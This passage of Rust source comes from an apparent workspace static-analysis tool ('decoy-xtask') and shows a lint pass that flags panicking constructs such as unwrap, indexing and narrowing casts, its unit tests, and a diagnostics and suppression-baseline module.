                          `decoy-lint: allow(<rule>[, <rule>]) -- <reason>`"
                    .to_string(),
            }),
        }
    }
    (map, bad)
}

/// Mark lines (0-based) covered by `#[cfg(test)]` or `#[test]` items.
fn test_mask(masked: &str) -> Vec<bool> {
    let lines: Vec<&str> = masked.lines().collect();
    let mut in_test = vec![false; lines.len()];
    let mut i = 0usize;
    while i < lines.len() {
        let l = lines.get(i).copied().unwrap_or_default();
        if !(l.contains("#[cfg(test)]") || l.contains("#[test]")) {
            i += 1;
            continue;
        }
        // find the body start: first `{` before a bare `;`
        let mut j = i;
        let mut body = None;
        while j < lines.len() {
            let lj = lines.get(j).copied().unwrap_or_default();
            match (lj.find('{'), lj.find(';')) {
                (Some(b), Some(s)) if s < b => break, // item without body
                (Some(_), _) => {
                    body = Some(j);
                    break;
                }
                (None, Some(_)) => break,
                (None, None) => j += 1,
            }
        }
        let Some(start) = body else {
            i += 1;
            continue;
        };
        let mut depth = 0i64;
        let mut k = start;
        while k < lines.len() {
            for ch in lines.get(k).copied().unwrap_or_default().chars() {
                match ch {
                    '{' => depth += 1,
                    '}' => depth -= 1,
                    _ => {}
                }
            }
            if let Some(slot) = in_test.get_mut(k) {
                *slot = true;
            }
            if depth <= 0 {
                break;
            }
            k += 1;
        }
        for idx in i..start {
            if let Some(slot) = in_test.get_mut(idx) {
                *slot = true;
            }
        }
        i = k + 1;
    }
    in_test
}

/// Iterator over `(byte_offset, ident)` words in a line.
fn idents(line: &str) -> Vec<(usize, &str)> {
    let b = line.as_bytes();
    let mut out = Vec::new();
    let mut i = 0usize;
    while i < b.len() {
        if b.get(i).copied().is_some_and(is_ident) {
            let start = i;
            while i < b.len() && b.get(i).copied().is_some_and(is_ident) {
                i += 1;
            }
            if let Some(w) = line.get(start..i) {
                out.push((start, w));
            }
        } else {
            i += 1;
        }
    }
    out
}

fn prev_nonspace(b: &[u8], before: usize) -> Option<(usize, u8)> {
    let mut k = before;
    while k > 0 {
        k -= 1;
        let c = b.get(k).copied()?;
        if c != b' ' && c != b'\t' {
            return Some((k, c));
        }
    }
    None
}

fn next_nonspace(b: &[u8], from: usize) -> Option<u8> {
    let mut k = from;
    while k < b.len() {
        let c = b.get(k).copied()?;
        if c != b' ' && c != b'\t' {
            return Some(c);
        }
        k += 1;
    }
    None
}

/// Lint one source file. `file` is used verbatim in findings.
pub fn lint_source(file: &str, src: &str) -> Vec<Finding> {
    let (allows, mut findings) = parse_allows(file, src);
    let masked = strip(src);
    let in_test = test_mask(&masked);

    let allowed = |lineno: usize, rule: &str| -> bool {
        [lineno, lineno.saturating_sub(1)].iter().any(|n| {
            allows
                .get(n)
                .is_some_and(|rules| rules.iter().any(|r| r == rule))
        })
    };
    let mut push = |lineno: usize, col: usize, rule: &'static str, message: String| {
        findings.push(Finding {
            file: file.to_string(),
            line: lineno,
            col,
            rule,
            message,
        });
    };

    for (idx, line) in masked.lines().enumerate() {
        if in_test.get(idx).copied().unwrap_or(false) {
            continue;
        }
        let lineno = idx + 1;
        let b = line.as_bytes();
        let words = idents(line);
        for (wi, &(off, word)) in words.iter().enumerate() {
            let before = prev_nonspace(b, off).map(|(_, c)| c);
            let after = next_nonspace(b, off + word.len());
            match word {
                "unwrap" | "unwrap_err" if before == Some(b'.') && after == Some(b'(') => {
                    if !allowed(lineno, "unwrap") {
                        push(
                            lineno,
                            off + 1,
                            "unwrap",
                            format!(".{word}() can panic; return a WireError instead"),
                        );
                    }
                }
                "expect" | "expect_err" if before == Some(b'.') && after == Some(b'(') => {
                    if !allowed(lineno, "expect") {
                        push(
                            lineno,
                            off + 1,
                            "expect",
                            format!(".{word}(..) can panic; return a WireError instead"),
                        );
                    }
                }
                "as" => {
                    let target = words.get(wi + 1).map(|&(_, w)| w).unwrap_or_default();
                    if NARROWING_TARGETS.contains(&target) && !allowed(lineno, "cast") {
                        push(
                            lineno,
                            off + 1,
                            "cast",
                            format!(
                                "`as {target}` silently truncates; use try_from or the \
                                 sat_* helpers in decoy_net::cursor"
                            ),
                        );
                    }
                }
                w if PANIC_MACROS.contains(&w) && after == Some(b'!') => {
                    if !allowed(lineno, "panic") {
                        push(
                            lineno,
                            off + 1,
                            "panic",
                            format!("{w}! panics; attacker-facing code must return Err"),
                        );
                    }
                }
                _ => {}
            }
        }
        // indexing: `[` preceded by an identifier, `)`, or `]`
        for (pos, &c) in b.iter().enumerate() {
            if c != b'[' {
                continue;
            }
            let Some((ppos, prev)) = prev_nonspace(b, pos) else {
                continue;
            };
            let is_index = if prev == b')' || prev == b']' {
                true
            } else if is_ident(prev) {
                // walk back to the identifier start
                let mut s = ppos;
                while s > 0 && b.get(s - 1).copied().is_some_and(is_ident) {
                    s -= 1;
                }
                let word = line.get(s..ppos + 1).unwrap_or_default();
                let lifetime = s > 0 && b.get(s - 1) == Some(&b'\'');
                !lifetime && !NON_INDEX_KEYWORDS.contains(&word)
            } else {
                false
            };
            if is_index && !allowed(lineno, "index") {
                push(
                    lineno,
                    pos + 1,
                    "index",
                    "slice indexing can panic; use .get()/.first_chunk() or ByteCursor".to_string(),
                );
            }
        }
    }
    findings
}

/// Check a crate root file for the `#![forbid(unsafe_code)]` wall.
pub fn check_forbid_unsafe(file: &str, src: &str) -> Option<Finding> {
    if src.contains("#![forbid(unsafe_code)]") {
        return None;
    }
    Some(Finding {
        file: file.to_string(),
        line: 1,
        col: 1,
        rule: "forbid-unsafe",
        message: "crate root is missing `#![forbid(unsafe_code)]`".to_string(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(src: &str) -> Vec<&'static str> {
        lint_source("t.rs", src)
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    #[test]
    fn strip_blanks_strings_and_comments() {
        let src = "let x = \"a[0].unwrap()\"; // .unwrap()\nlet y = 1;";
        let s = strip(src);
        assert!(!s.contains("unwrap"));
        assert!(s.contains("let y = 1;"));
        assert_eq!(s.len(), src.len()); // positions preserved
    }

    #[test]
    fn strip_keeps_multiple_lifetimes_intact() {
        let src = "fn f<'a, 'b>(x: &'a [u8], y: &'b [u8]) {}";
        assert_eq!(strip(src), src);
    }

    #[test]
    fn strip_handles_raw_and_byte_strings() {
        let s = strip(r##"let a = r#"x.unwrap()"#; let b = b"p[1]"; let c = br#"q[2]"#;"##);
        assert!(!s.contains("unwrap"));
        assert!(!s.contains("p[1]"));
        assert!(!s.contains("q[2]"));
    }

    #[test]
    fn strip_keeps_lifetimes_but_blanks_chars() {
        let s = strip("fn f<'a>(x: &'a [u8]) -> char { 'x' }");
        assert!(s.contains("'a [u8]"));
        assert!(!s.contains("'x'"));
        let s = strip("let c = '\\n'; let d = '\\'';");
        assert!(!s.contains("\\n"));
    }

    #[test]
    fn flags_unwrap_expect_panic() {
        assert_eq!(rules_of("let x = y.unwrap();"), vec!["unwrap"]);
        assert_eq!(rules_of("let x = y.expect(\"msg\");"), vec!["expect"]);
        assert_eq!(rules_of("panic!(\"boom\");"), vec!["panic"]);
        assert_eq!(rules_of("unreachable!()"), vec!["panic"]);
        assert_eq!(rules_of("assert_eq!(a, b);"), vec!["panic"]);
    }

    #[test]
    fn tolerates_non_panicking_relatives() {
        assert!(rules_of("let x = y.unwrap_or(0);").is_empty());
        assert!(rules_of("let x = y.unwrap_or_default();").is_empty());
        assert!(rules_of("let x = y.unwrap_or_else(|| 0);").is_empty());
        assert!(rules_of("debug_assert!(x > 0);").is_empty());
        assert!(rules_of("debug_assert_eq!(a, b);").is_empty());
        assert!(rules_of("matches!(x, Some(_))").is_empty());
    }

    #[test]
    fn flags_indexing_but_not_array_types() {
        assert_eq!(rules_of("let x = buf[0];"), vec!["index"]);
        assert_eq!(rules_of("let x = &buf[1..4];"), vec!["index"]);
        assert_eq!(rules_of("let x = f()[0];"), vec!["index"]);
        assert_eq!(rules_of("let x = m[0][1];"), vec!["index", "index"]);
        assert!(rules_of("let x: [u8; 4] = [0; 4];").is_empty());
        assert!(rules_of("fn f(x: &mut [u8]) {}").is_empty());
        assert!(rules_of("fn f<'a>(x: &'a [u8]) {}").is_empty());
        assert!(rules_of("#[derive(Debug)]").is_empty());
        assert!(rules_of("let v = vec![1, 2];").is_empty());
        assert!(rules_of("if let Some(&[a, b]) = s.first_chunk::<2>() {}").is_empty());
        assert!(rules_of("let [b0, b1] = n.to_le_bytes();").is_empty());
        assert!(rules_of("if x != Some(&b\"\\r\\n\"[..]) {}").is_empty());
    }

    #[test]
    fn flags_narrowing_casts_only() {
        assert_eq!(rules_of("let x = n as u8;"), vec!["cast"]);
        assert_eq!(rules_of("let x = n as usize;"), vec!["cast"]);
        assert_eq!(rules_of("let x = n as i32;"), vec!["cast"]);
        assert!(rules_of("let x = n as u64;").is_empty());
        assert!(rules_of("let x = n as f64;").is_empty());
        assert!(rules_of("let x = y as_ref();").is_empty());
    }

    #[test]
    fn allow_comment_suppresses_with_reason() {
        let src = "x.unwrap(); // decoy-lint: allow(unwrap) -- constructor invariant";
        assert!(lint_source("t.rs", src).is_empty());
        let src = "// decoy-lint: allow(panic) -- deploy-time config check\nassert!(capacity > 0);";
        assert!(lint_source("t.rs", src).is_empty());
        // multiple rules in one directive
        let src = "buf[0] as u8; // decoy-lint: allow(index, cast) -- proven in bounds above";
        assert!(lint_source("t.rs", src).is_empty());
    }

    #[test]
    fn allow_without_reason_is_a_finding() {
        let src = "x.unwrap(); // decoy-lint: allow(unwrap)";
        let rules = rules_of(src);
        assert!(rules.contains(&"bad-allow"));
        assert!(rules.contains(&"unwrap"), "the unwrap is still reported");
        // unknown rule name
        let src = "x.unwrap(); // decoy-lint: allow(everything) -- because";
        assert!(rules_of(src).contains(&"bad-allow"));
    }

    #[test]
    fn allow_does_not_leak_to_later_lines() {
        let src = "// decoy-lint: allow(unwrap) -- only the next line\nx.unwrap();\ny.unwrap();";
        let f = lint_source("t.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f.first().map(|f| f.line), Some(3));
    }

    #[test]
    fn test_modules_are_exempt() {
        let src = "fn prod(b: &[u8]) -> u8 { b.len() as u8 }\n\
                   #[cfg(test)]\n\
                   mod tests {\n\
                       #[test]\n\
                       fn t() { let x = [1u8][0]; x.unwrap(); panic!(); }\n\
                   }\n";
        let f = lint_source("t.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f.first().map(|f| f.rule), Some("cast"));
    }

    #[test]
    fn findings_carry_positions() {
        let f = lint_source("crates/x/src/a.rs", "let v = buf[7];");
        let first = f.first().expect("one finding");
        assert_eq!(first.file, "crates/x/src/a.rs");
        assert_eq!(first.line, 1);
        assert_eq!(first.col, 12);
        assert!(first
            .render()
            .starts_with("crates/x/src/a.rs:1:12: [index]"));
    }

    #[test]
    fn forbid_unsafe_check() {
        assert!(check_forbid_unsafe("lib.rs", "#![forbid(unsafe_code)]\n").is_none());
        let f = check_forbid_unsafe("lib.rs", "pub fn x() {}\n").expect("finding");
        assert_eq!(f.rule, "forbid-unsafe");
    }
}
