//! The panic-freedom lint pass (PR 2), rebuilt on the shared tokenizer.
//!
//! Pattern-matches the handful of constructs that can panic on
//! attacker-controlled input, over the token stream of [`SourceFile`]:
//!
//! | rule | rejects |
//! |---|---|
//! | `unwrap` | `.unwrap()` / `.unwrap_err()` |
//! | `expect` | `.expect(..)` / `.expect_err(..)` |
//! | `panic` | `panic!`, `unreachable!`, `todo!`, `unimplemented!`, `assert!`, `assert_eq!`, `assert_ne!` (`debug_assert*` is allowed) |
//! | `index` | slice/array indexing `x[..]`, including `f()[..]` and `x[0][1]` |
//! | `cast` | narrowing `as` casts: `as u8/u16/u32/i8/i16/i32/usize/isize` |
//!
//! The escape hatch is a same-line or preceding-line comment:
//!
//! ```text
//! // decoy-lint: allow(panic) -- deploy-time config invariant, not on the byte path
//! ```
//!
//! The reason after `--` is mandatory; an allow without one is itself a
//! finding (`bad-allow`). Test-masked lines are exempt.

use crate::diag::{Finding, SourceFile};
use crate::tok::TokKind;

/// Macro names (invoked with `!`) that can panic.
const PANIC_MACROS: [&str; 7] = [
    "panic",
    "unreachable",
    "todo",
    "unimplemented",
    "assert",
    "assert_eq",
    "assert_ne",
];

/// Target types of a narrowing `as` cast.
const NARROWING_TARGETS: [&str; 8] = ["u8", "u16", "u32", "i8", "i16", "i32", "usize", "isize"];

/// Keywords that may legitimately precede `[` (array types, not indexing).
const NON_INDEX_KEYWORDS: [&str; 13] = [
    "let", "mut", "ref", "dyn", "in", "return", "break", "const", "static", "else", "match", "if",
    "move",
];

/// Run the panic-freedom rules over one analyzed file (malformed allow
/// directives are *not* included here — the orchestrator reports those once
/// per file; [`lint_source`] adds them for standalone use).
pub fn check(sf: &SourceFile) -> Vec<Finding> {
    let mut findings = Vec::new();
    let mut push = |line: usize, col: usize, rule: &'static str, message: String| {
        findings.push(Finding {
            file: sf.rel.clone(),
            line,
            col,
            rule,
            pass: "lint",
            message,
        });
    };
    for (i, t) in sf.toks.iter().enumerate() {
        if sf.in_test_at(i) {
            continue;
        }
        let prev = i.checked_sub(1).and_then(|p| sf.toks.get(p));
        let next = sf.toks.get(i + 1);
        match t.kind {
            TokKind::Ident => {
                let word = sf.text(i);
                let prev_dot = prev.is_some_and(|p| p.kind == TokKind::Punct(b'.'));
                let next_paren = next.is_some_and(|n| n.kind == TokKind::Punct(b'('));
                let next_bang = next.is_some_and(|n| n.kind == TokKind::Punct(b'!'));
                match word {
                    "unwrap" | "unwrap_err" if prev_dot && next_paren => {
                        if !sf.allowed(t.line, "unwrap") {
                            push(
                                t.line,
                                t.col,
                                "unwrap",
                                format!(".{word}() can panic; return a WireError instead"),
                            );
                        }
                    }
                    "expect" | "expect_err" if prev_dot && next_paren => {
                        if !sf.allowed(t.line, "expect") {
                            push(
                                t.line,
                                t.col,
                                "expect",
                                format!(".{word}(..) can panic; return a WireError instead"),
                            );
                        }
                    }
                    "as" => {
                        let target = sf.text(i + 1);
                        if next.is_some_and(|n| n.kind == TokKind::Ident)
                            && NARROWING_TARGETS.contains(&target)
                            && !sf.allowed(t.line, "cast")
                        {
                            push(
                                t.line,
                                t.col,
                                "cast",
                                format!(
                                    "`as {target}` silently truncates; use try_from or the \
                                     sat_* helpers in decoy_net::cursor"
                                ),
                            );
                        }
                    }
                    w if PANIC_MACROS.contains(&w) && next_bang => {
                        if !sf.allowed(t.line, "panic") {
                            push(
                                t.line,
                                t.col,
                                "panic",
                                format!("{w}! panics; attacker-facing code must return Err"),
                            );
                        }
                    }
                    _ => {}
                }
            }
            // indexing: `[` preceded by an identifier, `)`, or `]`
            TokKind::Punct(b'[') => {
                let is_index = match prev {
                    Some(p) if p.kind == TokKind::Punct(b')') => true,
                    Some(p) if p.kind == TokKind::Punct(b']') => true,
                    Some(p) if p.kind == TokKind::Ident => {
                        !NON_INDEX_KEYWORDS.contains(&p.text(&sf.stripped))
                    }
                    _ => false,
                };
                if is_index && !sf.allowed(t.line, "index") {
                    push(
                        t.line,
                        t.col,
                        "index",
                        "slice indexing can panic; use .get()/.first_chunk() or ByteCursor"
                            .to_string(),
                    );
                }
            }
            _ => {}
        }
    }
    findings
}

/// Lint one source file standalone: context build + rules + malformed-allow
/// findings. `file` is used verbatim in findings.
pub fn lint_source(file: &str, src: &str) -> Vec<Finding> {
    let sf = SourceFile::new(file, src);
    let mut findings = sf.bad_allows.clone();
    findings.extend(check(&sf));
    findings
}

/// Check a crate root file for the `#![forbid(unsafe_code)]` wall.
pub fn check_forbid_unsafe(file: &str, src: &str) -> Option<Finding> {
    if src.contains("#![forbid(unsafe_code)]") {
        return None;
    }
    Some(Finding {
        file: file.to_string(),
        line: 1,
        col: 1,
        rule: "forbid-unsafe",
        pass: "lint",
        message: "crate root is missing `#![forbid(unsafe_code)]`".to_string(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_of(src: &str) -> Vec<&'static str> {
        lint_source("t.rs", src)
            .into_iter()
            .map(|f| f.rule)
            .collect()
    }

    #[test]
    fn flags_unwrap_expect_panic() {
        assert_eq!(rules_of("let x = y.unwrap();"), vec!["unwrap"]);
        assert_eq!(rules_of("let x = y.expect(\"msg\");"), vec!["expect"]);
        assert_eq!(rules_of("panic!(\"boom\");"), vec!["panic"]);
        assert_eq!(rules_of("unreachable!()"), vec!["panic"]);
        assert_eq!(rules_of("assert_eq!(a, b);"), vec!["panic"]);
    }

    #[test]
    fn tolerates_non_panicking_relatives() {
        assert!(rules_of("let x = y.unwrap_or(0);").is_empty());
        assert!(rules_of("let x = y.unwrap_or_default();").is_empty());
        assert!(rules_of("let x = y.unwrap_or_else(|| 0);").is_empty());
        assert!(rules_of("debug_assert!(x > 0);").is_empty());
        assert!(rules_of("debug_assert_eq!(a, b);").is_empty());
        assert!(rules_of("matches!(x, Some(_))").is_empty());
    }

    #[test]
    fn flags_multiline_method_chains() {
        // the token stream sees through line breaks the old line-based
        // matcher was blind to
        assert_eq!(rules_of("let x = y\n    .unwrap();"), vec!["unwrap"]);
    }

    #[test]
    fn flags_indexing_but_not_array_types() {
        assert_eq!(rules_of("let x = buf[0];"), vec!["index"]);
        assert_eq!(rules_of("let x = &buf[1..4];"), vec!["index"]);
        assert_eq!(rules_of("let x = f()[0];"), vec!["index"]);
        assert_eq!(rules_of("let x = m[0][1];"), vec!["index", "index"]);
        assert!(rules_of("let x: [u8; 4] = [0; 4];").is_empty());
        assert!(rules_of("fn f(x: &mut [u8]) {}").is_empty());
        assert!(rules_of("fn f<'a>(x: &'a [u8]) {}").is_empty());
        assert!(rules_of("#[derive(Debug)]").is_empty());
        assert!(rules_of("let v = vec![1, 2];").is_empty());
        assert!(rules_of("if let Some(&[a, b]) = s.first_chunk::<2>() {}").is_empty());
        assert!(rules_of("let [b0, b1] = n.to_le_bytes();").is_empty());
        assert!(rules_of("if x != Some(&b\"\\r\\n\"[..]) {}").is_empty());
    }

    #[test]
    fn flags_narrowing_casts_only() {
        assert_eq!(rules_of("let x = n as u8;"), vec!["cast"]);
        assert_eq!(rules_of("let x = n as usize;"), vec!["cast"]);
        assert_eq!(rules_of("let x = n as i32;"), vec!["cast"]);
        assert!(rules_of("let x = n as u64;").is_empty());
        assert!(rules_of("let x = n as f64;").is_empty());
        assert!(rules_of("let x = y as_ref();").is_empty());
    }

    #[test]
    fn allow_comment_suppresses_with_reason() {
        let src = "x.unwrap(); // decoy-lint: allow(unwrap) -- constructor invariant";
        assert!(lint_source("t.rs", src).is_empty());
        let src = "// decoy-lint: allow(panic) -- deploy-time config check\nassert!(capacity > 0);";
        assert!(lint_source("t.rs", src).is_empty());
        // multiple rules in one directive
        let src = "buf[0] as u8; // decoy-lint: allow(index, cast) -- proven in bounds above";
        assert!(lint_source("t.rs", src).is_empty());
    }

    #[test]
    fn allow_without_reason_is_a_finding() {
        let src = "x.unwrap(); // decoy-lint: allow(unwrap)";
        let rules = rules_of(src);
        assert!(rules.contains(&"bad-allow"));
        assert!(rules.contains(&"unwrap"), "the unwrap is still reported");
        // unknown rule name
        let src = "x.unwrap(); // decoy-lint: allow(everything) -- because";
        assert!(rules_of(src).contains(&"bad-allow"));
    }

    #[test]
    fn allow_does_not_leak_to_later_lines() {
        let src = "// decoy-lint: allow(unwrap) -- only the next line\nx.unwrap();\ny.unwrap();";
        let f = lint_source("t.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f.first().map(|f| f.line), Some(3));
    }

    #[test]
    fn test_modules_are_exempt() {
        let src = "fn prod(b: &[u8]) -> u8 { b.len() as u8 }\n\
                   #[cfg(test)]\n\
                   mod tests {\n\
                       #[test]\n\
                       fn t() { let x = [1u8][0]; x.unwrap(); panic!(); }\n\
                   }\n";
        let f = lint_source("t.rs", src);
        assert_eq!(f.len(), 1);
        assert_eq!(f.first().map(|f| f.rule), Some("cast"));
    }

    #[test]
    fn findings_carry_positions() {
        let f = lint_source("crates/x/src/a.rs", "let v = buf[7];");
        let first = f.first().expect("one finding");
        assert_eq!(first.file, "crates/x/src/a.rs");
        assert_eq!(first.line, 1);
        assert_eq!(first.col, 12);
        assert!(first
            .render()
            .starts_with("crates/x/src/a.rs:1:12: [lint/index]"));
    }

    #[test]
    fn strings_and_comments_are_invisible() {
        assert!(rules_of("let x = \"a[0].unwrap()\"; // .unwrap()").is_empty());
        assert!(rules_of("/* panic!() */ let ok = 1;").is_empty());
    }

    #[test]
    fn forbid_unsafe_check() {
        assert!(check_forbid_unsafe("lib.rs", "#![forbid(unsafe_code)]\n").is_none());
        let f = check_forbid_unsafe("lib.rs", "pub fn x() {}\n").expect("finding");
        assert_eq!(f.rule, "forbid-unsafe");
    }
}
