#![forbid(unsafe_code)]
//! # decoy-xtask
//!
//! Dependency-free workspace automation and static analysis, run as
//! `cargo run -p decoy-xtask -- <command>`.
//!
//! The crate is a library plus a thin CLI (`main.rs`) so the analysis
//! passes are unit- and integration-testable without spawning the binary:
//!
//! * [`tok`] — the shared brace-aware tokenizer every pass is built on
//!   (comment/string stripping with preserved spans, token stream, `fn`
//!   item recovery, test masking).
//! * [`diag`] — unified findings, `decoy-lint: allow` escape hatches, the
//!   per-file [`diag::SourceFile`] context, JSON reports, and the
//!   checked-in suppression baseline.
//! * [`lint`] — the PR 2 panic-freedom pass (unwrap/expect/panic/index/
//!   narrowing-cast) over the attacker-facing byte path.
//! * [`locks`] — lock-discipline: guards held across `.await` and
//!   inter-function lock-order cycles across the serving crates.
//! * [`alloc`] — hot-path allocation bans in `decoy-hot-path`-tagged
//!   modules.
//! * [`bench`] — freshness of committed `BENCH_*.json` placeholders.
//! * [`analyze`] — the orchestrator wiring scopes, passes, and baseline
//!   together.

pub mod alloc;
pub mod analyze;
pub mod bench;
pub mod diag;
pub mod lint;
pub mod locks;
pub mod tok;
