//! Unified diagnostics: findings, `decoy-lint: allow` escape hatches, the
//! per-file analysis context shared by every pass, and the checked-in
//! suppression baseline that lets a new pass land warn-first.

use std::collections::HashMap;

use crate::tok::{self, Tok};

/// Rules that can be named in a `decoy-lint: allow(..)` comment. The first
/// five are the PR 2 panic-freedom rules; `lock-*` belong to the
/// lock-discipline pass and `alloc-*` to the hot-path allocation pass
/// (bench-freshness findings live in JSON files, which have no comments —
/// they are suppressed through the baseline instead).
pub const RULE_NAMES: [&str; 13] = [
    "unwrap",
    "expect",
    "panic",
    "index",
    "cast",
    "lock-await",
    "lock-order",
    "alloc-vec",
    "alloc-to-vec",
    "alloc-clone",
    "alloc-format",
    "alloc-box",
    "alloc-string-from",
];

/// One diagnostic.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Workspace-relative path.
    pub file: String,
    /// 1-based line.
    pub line: usize,
    /// 1-based column (byte offset within the line).
    pub col: usize,
    /// Rule name (one of [`RULE_NAMES`], or an infrastructure rule such as
    /// `bad-allow`, `forbid-unsafe`, `hot-path-tag`, `bench-stale`).
    pub rule: &'static str,
    /// Which pass produced it (`lint`, `locks`, `alloc`, `bench`).
    pub pass: &'static str,
    /// Human-readable description.
    pub message: String,
}

impl Finding {
    /// Render as `file:line:col: [pass/rule] message`.
    pub fn render(&self) -> String {
        format!(
            "{}:{}:{}: [{}/{}] {}",
            self.file, self.line, self.col, self.pass, self.rule, self.message
        )
    }
}

/// Parsed allow-comments: line number (1-based) → allowed rules. Malformed
/// allows are returned as findings (rule `bad-allow`, pass `lint`).
pub fn parse_allows(file: &str, src: &str) -> (HashMap<usize, Vec<String>>, Vec<Finding>) {
    let mut map: HashMap<usize, Vec<String>> = HashMap::new();
    let mut bad = Vec::new();
    for (idx, line) in src.lines().enumerate() {
        let lineno = idx + 1;
        let Some(pos) = line.find("decoy-lint:") else {
            continue;
        };
        let directive = line.get(pos..).unwrap_or_default();
        let ok = (|| {
            let after = directive.strip_prefix("decoy-lint:")?.trim_start();
            let after = after.strip_prefix("allow(")?;
            let (rules, rest) = after.split_once(')')?;
            if !rest.contains("--") || rest.split_once("--")?.1.trim().is_empty() {
                return None;
            }
            let mut named = Vec::new();
            for r in rules.split(',') {
                let r = r.trim();
                if !RULE_NAMES.contains(&r) {
                    return None;
                }
                named.push(r.to_string());
            }
            if named.is_empty() {
                return None;
            }
            Some(named)
        })();
        match ok {
            Some(rules) => {
                map.entry(lineno).or_default().extend(rules);
            }
            None => bad.push(Finding {
                file: file.to_string(),
                line: lineno,
                col: pos + 1,
                rule: "bad-allow",
                pass: "lint",
                message: "malformed decoy-lint directive: expected \
                          `decoy-lint: allow(<rule>[, <rule>]) -- <reason>`"
                    .to_string(),
            }),
        }
    }
    (map, bad)
}

/// Everything a pass needs to know about one source file, computed once.
pub struct SourceFile {
    /// Workspace-relative, `/`-separated path.
    pub rel: String,
    /// Original text.
    pub src: String,
    /// Comment/string-stripped text (same length, same positions).
    pub stripped: String,
    /// Token stream over `stripped`.
    pub toks: Vec<Tok>,
    /// Recovered `fn` items.
    pub fns: Vec<tok::FnItem>,
    /// 0-based line → covered by `#[cfg(test)]`/`#[test]`.
    pub in_test: Vec<bool>,
    /// 1-based line → rules allowed by a `decoy-lint: allow` comment.
    pub allows: HashMap<usize, Vec<String>>,
    /// Malformed allow directives found while parsing.
    pub bad_allows: Vec<Finding>,
}

impl SourceFile {
    /// Analyze `src` (named `rel` in diagnostics) once for all passes.
    pub fn new(rel: &str, src: &str) -> SourceFile {
        let stripped = tok::strip(src);
        let toks = tok::tokenize(&stripped);
        let fns = tok::functions(&toks, &stripped);
        let in_test = tok::test_mask(&stripped);
        let (allows, bad_allows) = parse_allows(rel, src);
        SourceFile {
            rel: rel.to_string(),
            src: src.to_string(),
            stripped,
            toks,
            fns,
            in_test,
            allows,
            bad_allows,
        }
    }

    /// Text of token `i` (empty for out-of-range).
    pub fn text(&self, i: usize) -> &str {
        self.toks
            .get(i)
            .map(|t| t.text(&self.stripped))
            .unwrap_or_default()
    }

    /// True when `rule` is allowed on `lineno` (same or previous line).
    pub fn allowed(&self, lineno: usize, rule: &str) -> bool {
        [lineno, lineno.saturating_sub(1)].iter().any(|n| {
            self.allows
                .get(n)
                .is_some_and(|rules| rules.iter().any(|r| r == rule))
        })
    }

    /// True when token `i` sits on a test-masked line.
    pub fn in_test_at(&self, i: usize) -> bool {
        self.toks
            .get(i)
            .and_then(|t| self.in_test.get(t.line.saturating_sub(1)))
            .copied()
            .unwrap_or(false)
    }

    /// The trimmed original text of 1-based line `lineno` — the stable key
    /// baseline entries match on (line numbers drift, line content rarely).
    pub fn line_key(&self, lineno: usize) -> &str {
        self.src
            .lines()
            .nth(lineno.saturating_sub(1))
            .unwrap_or_default()
            .trim()
    }
}

fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// Render findings (and baseline bookkeeping) as the unified JSON report.
pub fn report_json(findings: &[Finding], suppressed: usize, stale_baseline: usize) -> String {
    let mut out = String::from("{\"findings\":[");
    for (i, f) in findings.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&format!(
            "{{\"file\":\"{}\",\"line\":{},\"col\":{},\"pass\":\"{}\",\"rule\":\"{}\",\"message\":\"{}\"}}",
            json_escape(&f.file),
            f.line,
            f.col,
            f.pass,
            f.rule,
            json_escape(&f.message)
        ));
    }
    out.push_str(&format!(
        "],\"count\":{},\"suppressed_by_baseline\":{},\"stale_baseline_entries\":{}}}",
        findings.len(),
        suppressed,
        stale_baseline
    ));
    out
}

/// The checked-in suppression baseline (`ANALYSIS_BASELINE.json`).
///
/// Entries are keyed `(file, rule, trimmed line text)` with a count, so
/// they survive line-number drift but die with the code they excuse: edit
/// or remove the offending line and the entry goes stale. `analyze`
/// suppresses up to `count` matching findings per key; anything beyond the
/// baseline is a fresh finding and fails CI. Regenerate with
/// `analyze --write-baseline` (and review the diff!).
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Baseline {
    /// `(file, rule, line key)` → allowed count.
    pub entries: HashMap<(String, String, String), usize>,
}

impl Baseline {
    /// Parse the baseline file format. The format is deliberately rigid:
    /// one entry object per line, as written by [`Baseline::render`].
    pub fn parse(text: &str) -> Result<Baseline, String> {
        let mut entries = HashMap::new();
        for (idx, line) in text.lines().enumerate() {
            let line = line.trim().trim_end_matches(',');
            if !line.starts_with('{') || !line.contains("\"file\"") {
                continue;
            }
            let field = |name: &str| -> Option<String> {
                let tag = format!("\"{name}\":\"");
                let start = line.find(&tag)? + tag.len();
                let rest = line.get(start..)?;
                // scan to the closing unescaped quote
                let mut out = String::new();
                let mut chars = rest.chars();
                while let Some(c) = chars.next() {
                    match c {
                        '\\' => match chars.next() {
                            Some('n') => out.push('\n'),
                            Some('t') => out.push('\t'),
                            Some(other) => out.push(other),
                            None => return None,
                        },
                        '"' => return Some(out),
                        c => out.push(c),
                    }
                }
                None
            };
            let count = (|| {
                let tag = "\"count\":";
                let start = line.find(tag)? + tag.len();
                line.get(start..)?
                    .trim_start()
                    .chars()
                    .take_while(|c| c.is_ascii_digit())
                    .collect::<String>()
                    .parse::<usize>()
                    .ok()
            })()
            .unwrap_or(1);
            match (field("file"), field("rule"), field("key")) {
                (Some(f), Some(r), Some(k)) => {
                    *entries.entry((f, r, k)).or_insert(0) += count;
                }
                _ => return Err(format!("malformed baseline entry on line {}", idx + 1)),
            }
        }
        Ok(Baseline { entries })
    }

    /// Total allocation budget this baseline grants the hot path: the sum
    /// of counts across `alloc-*` entries. `analyze --write-baseline`
    /// refuses to regenerate a baseline whose budget is larger than the
    /// committed one, so hot-path allocations can only be burned down.
    pub fn alloc_budget(&self) -> usize {
        self.entries
            .iter()
